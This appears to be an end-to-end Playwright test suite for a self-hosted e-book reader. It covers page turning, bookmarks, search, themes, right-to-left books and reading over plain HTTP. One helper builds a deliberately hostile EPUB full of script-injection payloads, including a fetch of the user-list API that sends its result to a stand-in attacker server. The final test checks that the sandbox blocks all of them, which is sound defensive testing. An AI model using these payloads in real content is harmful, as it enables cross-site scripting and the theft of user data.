/** Reading e-books in a real Chromium, against the built program. */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import {
  accessibilityProblems,
  admin,
  openBrowser,
  type Quire,
  signIn,
  startQuire,
  untilScanned,
  visit,
  type Visit,
} from './harness'
import { paragraphs, tinyEpub } from './tiny-epub'

const library = mkdtempSync(join(tmpdir(), 'quire-e2e-text-'))
const patience = 60_000
let quire: Quire
let browser: Browser
let evil: ReturnType<typeof Bun.serve>
const leaks: string[] = []
const ids = new Map<string, string>()

beforeAll(async () => {
  // Whatever a hostile book manages to send arrives here.
  evil = Bun.serve({
    port: 0,
    hostname: '127.0.0.1',
    fetch(request) {
      leaks.push(new URL(request.url).pathname)
      return new Response('')
    },
  })
  const calm = ['Tide', 'Estuary', 'Lighthouse', 'Harbour', 'Finished']
  for (const name of calm) write(name, calmBook(name))
  write('Leftward', { ...calmBook('Leftward'), direction: 'rtl', language: 'ar' })
  write('Hostile', hostileBook(evil.url.origin))
  quire = await startQuire({ library })
  browser = await openBrowser()
  const seen = await signedIn()
  await untilScanned(seen, quire, calm.length + 2)
  const answer = await seen.context.request.get(`${quire.url}/api/v1/books?pageSize=100`)
  const { data } = (await answer.json()) as { data: { id: string; seriesName: string }[] }
  for (const { id, seriesName } of data) ids.set(seriesName, id)
  await seen.context.close()
}, 120_000)

afterAll(async () => {
  await browser?.close()
  await quire?.close()
  await evil?.stop(true)
  rmSync(library, { recursive: true, force: true })
})

function write(name: string, book: Parameters<typeof tinyEpub>[0]) {
  mkdirSync(join(library, name))
  writeFileSync(join(library, name, `${name} v1.epub`), tinyEpub(book))
}

function calmBook(title: string): Parameters<typeof tinyEpub>[0] {
  const chapters = [1, 2, 3].map((chapter) => ({
    title: `Chapter ${chapter}`,
    html: `<h1>Chapter ${chapter}</h1>${paragraphs(chapter, 40)}<p>The lantern of chapter ${chapter}.</p>`,
  }))
  return { title, chapters }
}

/** Each vector tells the server at `origin` where it comes from, or marks the window. */
function hostileBook(origin: string): Parameters<typeof tinyEpub>[0] {
  const mark = `top.hacked = true; parent.hacked = true; new Image().src = '${origin}/script'; fetch('/api/v1/users').then((answer) => fetch('${origin}/stolen'))`
  const html = `
    <p>Chapter 1, paragraph 1. Nothing to see here.</p>
    <script>${mark}</script><script src="evil.js"></script><script src="${origin}/remote.js"></script>
    <img src="nothing.png" onerror="${mark}" alt=""/><img src="${origin}/image" alt=""/>
    <img src="/api/v1/users" alt=""/>
    <svg xmlns="http://www.w3.org/2000/svg" onload="${mark}"><script>${mark}</script></svg>
    <iframe srcdoc="&lt;script&gt;top.hacked = true&lt;/script&gt;"></iframe>
    <iframe src="${origin}/frame"></iframe><object data="${origin}/object"></object>
    <embed src="${origin}/embed"/><link rel="stylesheet" href="${origin}/style.css"/>
    <style>@import url('${origin}/import.css'); p { background: url('${origin}/background') }</style>
    <form id="form" action="${origin}/form"><input name="a"/></form>
    <p><a id="script-link" href="javascript:${mark.replaceAll('"', '')}">a link</a></p>
    <p><a id="tab-link" href="c2.xhtml" target="_top">another</a></p>
    <video src="${origin}/video" autoplay="autoplay"></video>`
  const refresh = `<meta http-equiv="refresh" content="0;url=${origin}/refresh"/><p>Chapter 2.</p>`
  const chapters = [
    { title: 'One', html },
    { title: 'Two', html: refresh },
  ]
  return { title: 'Hostile', chapters, files: { 'OEBPS/evil.js': mark } }
}

async function signedIn(screen: Parameters<typeof visit>[2] = {}, at = quire) {
  const seen = await visit(browser, at, screen)
  await signIn(seen, at)
  return seen
}

async function open({ page }: Visit, name: string, at = quire) {
  await page.goto(`${at.url}/read/${ids.get(name)}`)
  await page.getByRole('slider', { name: 'Place in the book' }).waitFor()
}

/** "Chapter 2, paragraph 7" of each paragraph whose beginning is on the screen. */
async function visible(page: Page): Promise<string[]> {
  const frame = page.frames().find((each) => each.url().includes('/resources/'))
  if (!frame) return []
  const look = () => {
    const { x } = window.frameElement!.getBoundingClientRect()
    return [...document.querySelectorAll('p')]
      .filter((paragraph) => {
        const [first] = paragraph.getClientRects()
        return first && first.left + x >= 0 && first.left + x < window.top!.innerWidth
      })
      .map((paragraph) => paragraph.textContent?.split('.')[0] ?? '')
  }
  // Between two chapters there is no frame to ask.
  return frame.evaluate(look).catch(() => [])
}

async function until(holds: () => Promise<boolean>, what: string) {
  for (const deadline = Date.now() + 10_000; Date.now() < deadline; await Bun.sleep(50)) {
    if (await holds()) return
  }
  throw new Error(`waited in vain: ${what}`)
}

const untilVisible = (page: Page, words: string) =>
  until(async () => (await visible(page)).includes(words), `${words} is on the screen`)

describe('an e-book', () => {
  test(
    'opens, turns, and goes on where one left off, on another screen with larger letters',
    async () => {
      const seen = await signedIn()
      const { page } = seen
      await open(seen, 'Tide')
      await untilVisible(page, 'Chapter 1, paragraph 1')
      for (let turn = 0; turn < 4; turn++) {
        const [first] = await visible(page)
        await page.keyboard.press('ArrowRight')
        await until(async () => {
          const [now] = await visible(page)
          return now !== undefined && now !== first
        }, 'the page turns')
      }
      await page.waitForResponse((answer) => answer.url().endsWith('/progression'))
      const [before = ''] = await visible(page)
      expect(before).not.toBe('Chapter 1, paragraph 1')
      await seen.context.request.patch(`${quire.url}/api/v1/preferences?scope=user`, {
        headers: { origin: quire.url },
        data: { preferences: { 'epub.fontSize': 160 } },
      })
      const other = await signedIn({ width: 600, height: 800 })
      await open(other, 'Tide')
      await untilVisible(other.page, before)
      expect(other.troubles).toEqual([])
      expect(seen.troubles).toEqual([])
      await seen.context.close()
      await other.context.close()
    },
    patience,
  )

  test(
    'has contents, a search and bookmarks',
    async () => {
      const seen = await signedIn()
      const { page } = seen
      await open(seen, 'Estuary')
      await page.keyboard.press('t')
      const contents = page.getByRole('complementary', { name: 'Contents' })
      expect(await accessibilityProblems(page)).toEqual([])
      await contents.getByRole('button', { name: 'Chapter 3' }).click()
      await untilVisible(page, 'Chapter 3, paragraph 1')
      await page.getByRole('button', { name: 'Bookmark this place' }).click()
      await contents.getByRole('button', { name: /^Chapter 3 ?\d/ }).waitFor()
      await page.getByRole('button', { name: 'Search in this book' }).click()
      await page.getByRole('searchbox').fill('lantern of chapter 2')
      await page.keyboard.press('Enter')
      await page.getByText('1 place').waitFor()
      expect(await accessibilityProblems(page)).toEqual([])
      await page.getByRole('button', { name: /lantern/ }).click()
      await untilVisible(page, 'The lantern of chapter 2')
      await page.getByRole('button', { name: 'Contents' }).click()
      await contents.getByRole('button', { name: /^Chapter 3 ?\d/ }).click()
      await untilVisible(page, 'Chapter 3, paragraph 1')
      expect(seen.troubles).toEqual([])
      await seen.context.close()
    },
    patience,
  )

  test(
    'is finished on its last screen, and leads on by a second gesture only',
    async () => {
      const seen = await signedIn()
      const { page } = seen
      await open(seen, 'Lighthouse')
      await page.keyboard.press('End')
      await untilVisible(page, 'The lantern of chapter 3')
      const progress = `${quire.url}/api/v1/books/${ids.get('Lighthouse')}/progress`
      await until(async () => {
        const answer = await seen.context.request.get(progress)
        return (
          answer.status() === 200 && ((await answer.json()) as { completed: boolean }).completed
        )
      }, 'the book is read')
      await page.keyboard.press('ArrowRight')
      await page.getByText('The end of this book').waitFor()
      await page.keyboard.press('ArrowLeft')
      await untilVisible(page, 'The lantern of chapter 3')
      expect(seen.troubles).toEqual([])
      await seen.context.close()
    },
    patience,
  )

  test(
    'that is read leftwards turns with the left arrow',
    async () => {
      const seen = await signedIn()
      const { page } = seen
      await open(seen, 'Leftward')
      await untilVisible(page, 'Chapter 1, paragraph 1')
      await page.keyboard.press('ArrowLeft')
      await until(async () => !(await visible(page)).includes('Chapter 1, paragraph 1'), 'it turns')
      await seen.context.close()
    },
    patience,
  )

  test(
    'settings change the text at once, and pass the check of accessibility',
    async () => {
      const seen = await signedIn()
      const { page } = seen
      await open(seen, 'Harbour')
      await page.keyboard.press('a')
      await page.getByRole('radio', { name: 'Sepia' }).check()
      await until(
        async () => (await background(page)) === 'rgb(240, 228, 201)',
        'the paper is sepia',
      )
      await page.getByRole('radio', { name: 'Scroll' }).check()
      await untilVisible(page, 'Chapter 1, paragraph 40')
      expect(await accessibilityProblems(page)).toEqual([])
      expect(seen.troubles).toEqual([])
      await seen.context.close()
    },
    patience,
  )

  test(
    'can be read over plain HTTP in a home network, where browsers say less',
    async () => {
      const nas = { ...quire, url: quire.url.replace('127.0.0.1', 'nas.test') }
      const seen = await visit(browser, nas)
      const { page } = seen
      await page.goto(`${nas.url}/login`)
      await page.getByLabel('User name or e-mail address').fill(admin.username)
      await page.getByLabel('Password').fill(admin.password)
      await page.keyboard.press('Enter')
      await page.waitForURL((url) => !url.pathname.includes('login'))
      await open(seen, 'Harbour', nas)
      expect(await page.evaluate(() => isSecureContext)).toBe(false)
      await untilVisible(page, 'Chapter 1, paragraph 1')
      await seen.context.close()
    },
    patience,
  )
})

test(
  'to look into an e-book that is read, is not to begin it anew',
  async () => {
    const seen = await signedIn()
    const address = `${quire.url}/api/v1/books/${ids.get('Finished')}`
    await seen.context.request.post(`${address}/read`, { headers: { origin: quire.url } })
    await open(seen, 'Finished')
    await untilVisible(seen.page, 'Chapter 1, paragraph 1')
    await seen.page.setViewportSize({ width: 700, height: 900 })
    await Bun.sleep(1_500)
    const answer = await seen.context.request.get(`${address}/progress`)
    expect(await answer.json()).toMatchObject({ completed: true })
    await seen.context.close()
  },
  patience,
)

const background = (page: Page) =>
  page.evaluate(
    () => getComputedStyle(document.querySelector('main')!.parentElement!).backgroundColor,
  )

test(
  'a hostile e-book runs nothing, reaches nothing, and sends nothing',
  async () => {
    const seen = await signedIn({ mayBreakRules: true })
    const { page } = seen
    // What the policy stops is asked for all the same; only what is answered has left the browser.
    const answered: string[] = []
    page.on('response', (answer) => void answered.push(new URL(answer.url()).pathname))
    await open(seen, 'Hostile')
    await untilVisible(page, 'Chapter 1, paragraph 1')
    const frame = page.frames().find((each) => each.url().includes('/resources/'))!
    await frame.evaluate(() => {
      document.querySelector<HTMLFormElement>('#form')?.submit()
      document.querySelector<HTMLElement>('#script-link')?.click()
    })
    await Bun.sleep(1_000)
    await page.keyboard.press('End')
    await Bun.sleep(1_500)
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
    expect(page.url()).toContain(`/read/${ids.get('Hostile')}`)
    expect(leaks).toEqual([])
    expect(answered.filter((path) => path.startsWith('/api/v1/users'))).toEqual([])
    expect(answered.filter((path) => path.endsWith('evil.js'))).toEqual([])
    await seen.context.close()
  },
  patience,
)
